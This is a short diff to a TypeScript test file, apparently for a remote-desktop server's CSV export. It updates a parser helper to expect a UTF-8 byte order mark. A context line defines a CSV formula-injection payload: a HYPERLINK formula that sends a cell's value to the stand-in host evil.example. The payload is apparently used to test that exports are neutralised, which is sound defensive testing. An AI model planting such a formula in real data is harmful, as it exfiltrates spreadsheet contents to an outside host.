@@ -11,8 +11,10 @@ import { dart, loginBody, rust } from '../../support/rustdesk-client.js';
 /** A controlling device named to run a formula in whatever spreadsheet opens the export. */
 const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"open me")';
 
-/** Reads a CSV answer (RFC 4180) back into rows of cells. */
-function parseCsv(text: string): string[][] {
+/** Reads a CSV answer (RFC 4180), which starts with the UTF-8 byte order mark, back into rows of cells. */
+function parseCsv(answer: string): string[][] {
+  assert.ok(answer.startsWith('\uFEFF'), 'starts with the byte order mark, so that spreadsheets read UTF-8');
+  const text = answer.slice(1);
   const rows: string[][] = [];
   let row: string[] = [];
   let cell = '';
